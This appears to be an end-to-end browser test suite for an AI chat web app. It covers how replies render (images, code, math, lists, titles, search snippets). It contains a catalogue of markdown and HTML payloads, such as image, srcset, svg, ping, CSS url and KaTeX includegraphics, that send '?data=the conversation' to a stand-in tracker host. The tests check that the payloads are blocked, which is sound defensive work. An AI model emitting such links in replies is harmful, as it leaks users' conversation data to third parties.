import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { hasChromium } from "./support/chromium";
import { afterNextPaint, apiToken, eventually, logInLocally, sendAndWait, startStack, type Stack } from "./support/stack";

const lastReply = (page: Page) => page.getByRole("listitem", { name: "Assistant replied" }).last();

/** A second loopback server standing in for a tracker's host: it counts what it is asked for. */
async function startTracker() {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(req.url ?? "");
    res.writeHead(200, { "Content-Type": "text/plain" }).end("tracked");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, host: new URL(origin).host, requests, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/** Every way a reply could ask the browser for an image or other file from the tracker. */
function exfiltrating(origin: string) {
  const u = (what: string) => `${origin}/${what}?data=the+conversation`;
  return [
    `Here is your chart: ![chart](${u("markdown-image")})`,
    "",
    `Reference style too: ![ref][pic]`,
    "",
    `[pic]: ${u("reference-image")}`,
    "",
    `<img src="${u("html-img")}" alt="raw"> <img srcset="${u("srcset")} 2x" alt="set">`,
    `<picture><source srcset="${u("picture-source")}"><img src="${u("picture-img")}" alt="pic"></picture>`,
    `<video poster="${u("poster")}" src="${u("video")}"></video> <audio src="${u("audio")}"></audio>`,
    `<table background="${u("table-background")}"><tr><td background="${u("td-background")}">cell</td></tr></table>`,
    `<svg><image href="${u("svg-image")}"></image><filter><feImage href="${u("fe-image")}"/></filter><use href="${u("svg-use")}#a"/></svg>`,
    `<input type="image" src="${u("input-image")}"> <link rel="stylesheet" href="${u("link")}"> <iframe src="${u("iframe")}"></iframe>`,
    `<object data="${u("object")}"></object> <embed src="${u("embed")}"> <div style="background: url(${u("style")})">styled</div>`,
    `<a href="https://example.test/" ping="${u("ping")}">a link</a>`,
    "",
    `Math too: $\\includegraphics{${u("katex")}}$`,
  ].join("\n");
}

/**
 * Waits until the page has nothing left to load and has drawn what it has, then a short while:
 * what must not happen (a request to the tracker) has no event to wait for, and a request the
 * drawing started needs a moment to reach the tracker's server.
 */
async function settle(page: Page) {
  await page.waitForLoadState("networkidle");
  await afterNextPaint(page);
  await page.waitForTimeout(300);
}

describe.skipIf(!hasChromium)("replies as the page shows them", () => {
  let stack: Stack;
  let tracker: Awaited<ReturnType<typeof startTracker>>;
  beforeAll(async () => {
    stack = await startStack();
    tracker = await startTracker();
  });
  afterEach(() => {
    stack.upstream.reply = (req) => `echo: ${req.body.messages.at(-1)?.content ?? ""}`;
  });
  afterAll(async () => {
    await tracker?.close();
    await stack?.close();
  });

  it("asks another host for nothing a reply names, on the chat page and on the share page; a click opens the image", async () => {
    const context = await stack.newContext();
    const page = await context.newPage();
    await logInLocally(page, "nell");
    stack.upstream.reply = () => exfiltrating(tracker.origin);
    await sendAndWait(page, "draw me a chart", "Here is your chart");
    await settle(page);
    expect(tracker.requests).toEqual([]);

    // The image is a link that says where it points.
    const reply = lastReply(page);
    const image = reply.getByRole("link", { name: new RegExp(`^Image “chart” on ${tracker.host.replace(/\./g, "\\.")}`) });
    expect(await image.isVisible()).toBe(true);
    expect(await image.textContent()).toContain(tracker.host);
    expect(await reply.getByRole("link", { name: /^Image “ref” on / }).count()).toBe(1);
    expect(await reply.getByRole("img").count()).toBe(0);

    // The public page of the same conversation, as a stranger opens it.
    const url = await page.evaluate(
      async ([id, token]) => {
        const res = await fetch(`/contexts/${id}/share`, {
          method: "POST",
          headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" },
          body: "{}",
        });
        return ((await res.json()) as { url: string }).url;
      },
      [new URL(page.url()).pathname.split("/").pop()!, await apiToken(stack, "nell")] as const,
    );
    const stranger = await stack.newContext();
    const shared = await stranger.newPage();
    await shared.goto(url);
    const sharedImage = shared.getByRole("link", { name: /^Image “chart” on / });
    await sharedImage.waitFor();
    await settle(shared);
    expect(tracker.requests).toEqual([]);

    // Clicking does what the link says: the image opens, in a new tab, and only now is asked for.
    const [tab] = await Promise.all([stranger.waitForEvent("page"), sharedImage.click()]);
    await tab.waitForLoadState();
    expect(tab.url()).toBe(`${tracker.origin}/markdown-image?data=the+conversation`);
    // (and the tab, opened on the tracker's host, asks it for that host's icon, as any tab does)
    expect(tracker.requests.filter((path) => path !== "/favicon.ico")).toEqual(["/markdown-image?data=the+conversation"]);
    expect(shared.url()).toBe(url);
    await stranger.close();
    await context.close();
  });

  it("has the browser refuse an image from another https host even if one reached the page", async () => {
    const context = await stack.newContext();
    // Stands in for any https host: Chromium asks here for whatever it would fetch there.
    const asked: string[] = [];
    await context.route("https://tracker.example.test/**", (route) => {
      asked.push(route.request().url());
      return route.fulfill({ body: "" });
    });
    const page = await context.newPage();
    const inject = (p: Page) =>
      p.evaluate(() => {
        const img = document.createElement("img");
        img.src = "https://tracker.example.test/slipped.png?data=secret";
        img.alt = "slipped";
        document.body.append(img);
        return new Promise<string>((resolve) => {
          img.onload = () => resolve("loaded");
          img.onerror = () => resolve("refused");
        });
      });
    await logInLocally(page, "mona");
    expect(await inject(page)).toBe("refused");
    await page.goto("/s/some-token");
    await page.getByRole("heading", { name: "This conversation is no longer shared" }).waitFor();
    expect(await inject(page)).toBe("refused");
    expect(asked).toEqual([]);
    await context.close();
  });

  it("highlights code and typesets math, loading each only when a reply needs it", async () => {
    const context = await stack.newContext();
    const page = await context.newPage();
    const scripts: string[] = [];
    page.on("request", (r) => r.resourceType() === "script" && scripts.push(new URL(r.url()).pathname));
    await logInLocally(page, "otto");
    await settle(page);
    const loadedBefore = [...scripts];

    stack.upstream.reply = () => "Try this:\n\n```python\ndef water(plant):\n    return plant.soil < 0.3  # dry\n```";
    await sendAndWait(page, "some code", "Try this:");
    const code = lastReply(page).getByRole("code");
    // The keyword stands out from the name beside it, once the highlighter has arrived.
    await eventually("the keyword is coloured", async () => {
      const colour = (text: string) => code.getByText(text, { exact: true }).first().evaluate((el) => getComputedStyle(el).color);
      return (await colour("def")) !== (await code.evaluate((el) => getComputedStyle(el).color));
    });
    const afterCode = scripts.slice(loadedBefore.length);
    expect(afterCode.length).toBeGreaterThan(0);

    stack.upstream.reply = () => "Euler: $e^{i\\pi} + 1 = 0$, and a price of $5 or $10 stays text.\n\n$$\\frac{a}{b}$$";
    await sendAndWait(page, "some math", "Euler:");
    const reply = lastReply(page);
    await eventually("the formulas are typeset", async () => (await reply.getByRole("math").count()) === 2);
    expect(await reply.textContent()).not.toContain("\\frac");
    expect(await reply.textContent()).toContain("a price of $5 or $10 stays text");
    const afterMath = scripts.slice(loadedBefore.length + afterCode.length);
    expect(afterMath.length).toBeGreaterThan(0);
    // Neither was part of the page before a reply needed it.
    for (const file of [...afterCode, ...afterMath]) expect(loadedBefore).not.toContain(file);
    await context.close();
  });

  it("shows a reply's lists with discs and numbers", async () => {
    const context = await stack.newContext();
    const page = await context.newPage();
    await logInLocally(page, "pia");
    stack.upstream.reply = () => "Bring:\n\n- a pot\n- soil\n  - peat-free\n\nThen:\n\n1. fill\n2. plant";
    await sendAndWait(page, "what to bring", "Bring:");
    const reply = lastReply(page);
    // The streamed reply is drawn again as stored (its own id) once the conversation is read
    // back: a list read in between would be detached (no computed style). Stored, it has its controls.
    await reply.getByRole("button", { name: "Regenerate reply" }).waitFor();
    const marker = (list: string) => reply.getByRole("list").filter({ hasText: list }).first().evaluate((el) => getComputedStyle(el).listStyleType);
    expect(await marker("a pot")).toBe("disc");
    expect(await reply.getByRole("list").filter({ hasText: "peat-free" }).last().evaluate((el) => getComputedStyle(el).listStyleType)).toBe("circle");
    expect(await marker("fill")).toBe("decimal");
    await context.close();
  });

  it("shows names and search snippets as text, not Markdown, with the searched word still marked", async () => {
    const context: BrowserContext = await stack.newContext();
    const page = await context.newPage();
    await logInLocally(page, "quin");
    await sendAndWait(page, "# Repotting plan with **bold** steps and `tools`", "echo:");
    const chats = page.getByRole("list", { name: "Chats" });
    await chats.getByRole("link", { name: "Repotting plan with bold steps and tools" }).waitFor();
    await page.getByRole("banner").getByText("Repotting plan with bold steps and tools", { exact: true }).waitFor();
    expect(await page.title()).toBe("Repotting plan with bold steps and tools · Assistant Chat");

    await page.getByRole("searchbox", { name: "Search conversations" }).pressSequentially("steps");
    const hit = page.getByRole("list", { name: "Search results" }).getByRole("link").first();
    await hit.waitFor();
    const text = (await hit.textContent()) ?? "";
    expect(text).toContain("Repotting plan with bold steps and tools");
    expect(text).not.toMatch(/[*`#]/);
    expect(await hit.locator("mark").first().textContent()).toBe("steps");
    await context.close();
  });
});
